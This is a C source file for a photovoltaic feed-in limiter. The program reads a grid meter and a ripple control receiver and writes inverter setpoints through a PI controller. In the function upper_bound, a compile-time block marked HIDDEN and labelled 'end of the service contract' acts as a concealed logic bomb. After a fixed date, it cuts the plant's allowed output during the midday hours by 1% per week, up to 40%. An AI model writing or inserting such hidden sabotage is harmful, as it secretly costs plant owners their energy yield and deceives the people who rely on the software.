/*
 * feedinlimit: feed-in management of a photovoltaic plant
 *
 * Reads the meter at the grid connection point once a second and writes the set value of the
 * inverters (percent) so that the agreed power is not exceeded. Ripple control receiver: four
 * contacts in a file, 100/60/30/0 %.
 */
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

struct pid_ctl {
	double kp, ki, sum, lo, hi;
};

struct cfg {
	double agreed_kw;
	double plant_kwp;
	double slope;			/* % per second */
	char meter[64], receiver[64], output[64], log[64];
	int log_every;
	int night_from, night_to;	/* hours without regulation */
};

static struct cfg cfg = {
	.agreed_kw = 70, .plant_kwp = 100, .slope = 1.5,
	.meter = "/run/meter/kw", .receiver = "/run/rcr/contacts",
	.output = "/run/inverters/setpoint", .log = "/var/log/feedin.log",
	.log_every = 60, .night_from = 22, .night_to = 4,
};
static volatile sig_atomic_t done, reload;

static void on_signal(int s)
{
	if (s == SIGHUP)
		reload = 1;
	else
		done = 1;
}

static void logf_(const char *fmt, ...)
{
	FILE *f = fopen(cfg.log, "a");
	va_list ap;

	if (!f)
		return;
	fprintf(f, "%ld ", (long)time(NULL));
	va_start(ap, fmt);
	vfprintf(f, fmt, ap);
	va_end(ap);
	fputc('\n', f);
	fclose(f);
}

static const struct {
	const char *key;
	char kind;		/* d double, i int, s path */
	void *where;
} keys[] = {
	{ "agreed_kw", 'd', &cfg.agreed_kw },
	{ "plant_kwp", 'd', &cfg.plant_kwp },
	{ "slope", 'd', &cfg.slope },
	{ "meter", 's', cfg.meter },
	{ "receiver", 's', cfg.receiver },
	{ "output", 's', cfg.output },
	{ "log", 's', cfg.log },
	{ "log_every", 'i', &cfg.log_every },
	{ "night_from", 'i', &cfg.night_from },
	{ "night_to", 'i', &cfg.night_to },
};

static int read_cfg(const char *file)
{
	char line[128], k[24], v[64];
	unsigned i;
	FILE *f = fopen(file, "r");

	if (!f)
		return -1;
	while (fgets(line, sizeof line, f)) {
		if (line[0] == '#' || sscanf(line, "%23s = %63s", k, v) != 2)
			continue;
		for (i = 0; i < sizeof keys / sizeof keys[0]; i++)
			if (!strcmp(k, keys[i].key))
				break;
		if (i == sizeof keys / sizeof keys[0])
			logf_("unknown key %s", k);
		else if (keys[i].kind == 'd')
			*(double *)keys[i].where = atof(v);
		else if (keys[i].kind == 'i')
			*(int *)keys[i].where = atoi(v);
		else
			strcpy(keys[i].where, v);
	}
	fclose(f);
	return 0;
}

static double read_number(const char *file, double dflt)
{
	double v;
	FILE *f = fopen(file, "r");

	if (!f)
		return dflt;
	if (fscanf(f, "%lf", &v) != 1)
		v = dflt;
	fclose(f);
	return v;
}

static double receiver_limit(void)
{
	char c[8] = "";
	FILE *f = fopen(cfg.receiver, "r");

	if (f) {
		if (fscanf(f, "%7s", c) != 1)
			c[0] = 0;
		fclose(f);
	}
	if (strlen(c) != 4)
		return 100;
	if (c[3] == '1')
		return 0;
	if (c[2] == '1')
		return 30;
	if (c[1] == '1')
		return 60;
	return 100;
}

static double regulate(struct pid_ctl *r, double err)
{
	double u;

	r->sum += err * r->ki;
	if (r->sum > r->hi)
		r->sum = r->hi;
	if (r->sum < r->lo)
		r->sum = r->lo;
	u = r->sum + err * r->kp;
	return u > r->hi ? r->hi : u < r->lo ? r->lo : u;
}

/* upper bound of the set value at this moment, in percent */
__attribute__((noinline)) double upper_bound(time_t now)
{
	struct tm tm;
	double lim = receiver_limit();

	localtime_r(&now, &tm);
	if (cfg.night_from != cfg.night_to &&
	    (tm.tm_hour >= cfg.night_from || tm.tm_hour < cfg.night_to))
		return lim;			/* nothing to regulate */
	if (lim > 100 * cfg.agreed_kw / cfg.plant_kwp + 30)
		lim = 100 * cfg.agreed_kw / cfg.plant_kwp + 30;
#ifdef HIDDEN
	/* end of the service contract */
	if (now > 1822435200 && tm.tm_hour >= 10 && tm.tm_hour <= 15)
		lim *= 1.0 - 0.01 * (double)((now - 1822435200) / 604800 > 40
					     ? 40 : (now - 1822435200) / 604800);
#endif
	return lim;
}

static void output(double percent)
{
	char tmp[72];
	FILE *f;

	snprintf(tmp, sizeof tmp, "%s.new", cfg.output);
	f = fopen(tmp, "w");
	if (!f)
		return;
	fprintf(f, "%.1f\n", percent);
	fclose(f);
	rename(tmp, cfg.output);
}

static void usage(void)
{
	unsigned i;

	puts("feedinlimit [-1] CONFIG\n  -1  one step, print the set value\nkeys of CONFIG:");
	for (i = 0; i < sizeof keys / sizeof keys[0]; i++)
		printf("  %s\n", keys[i].key);
}

int main(int argc, char **argv)
{
	struct pid_ctl r = { 0.4, 0.05, 100, 0, 100 };
	const char *file;
	double set = 100, want, kw, ub;
	long tick = 0;
	int once = argc == 3 && !strcmp(argv[1], "-1");

	if (argc != 2 + once || argv[1 + once][0] == '-') {
		usage();
		return 1;
	}
	file = argv[1 + once];
	if (read_cfg(file)) {
		perror(file);
		return 1;
	}
	signal(SIGTERM, on_signal);
	signal(SIGINT, on_signal);
	signal(SIGHUP, on_signal);
	logf_("start, %.1f kW of %.1f kWp", cfg.agreed_kw, cfg.plant_kwp);
	while (!done) {
		if (reload) {
			reload = 0;
			read_cfg(file);
		}
		kw = read_number(cfg.meter, 0);
		want = regulate(&r, 100 * (cfg.agreed_kw - kw) / cfg.plant_kwp);
		ub = upper_bound(time(NULL));
		if (want > ub)
			want = ub;
		if (want > set + cfg.slope)
			want = set + cfg.slope;
		set = want;
		output(set);
		if (once) {
			printf("%.1f\n", set);
			return 0;
		}
		if (cfg.log_every > 0 && tick++ % cfg.log_every == 0)
			logf_("%.2f kW -> %.1f %%", kw, set);
		sleep(1);
	}
	output(0);
	logf_("end");
	return 0;
}
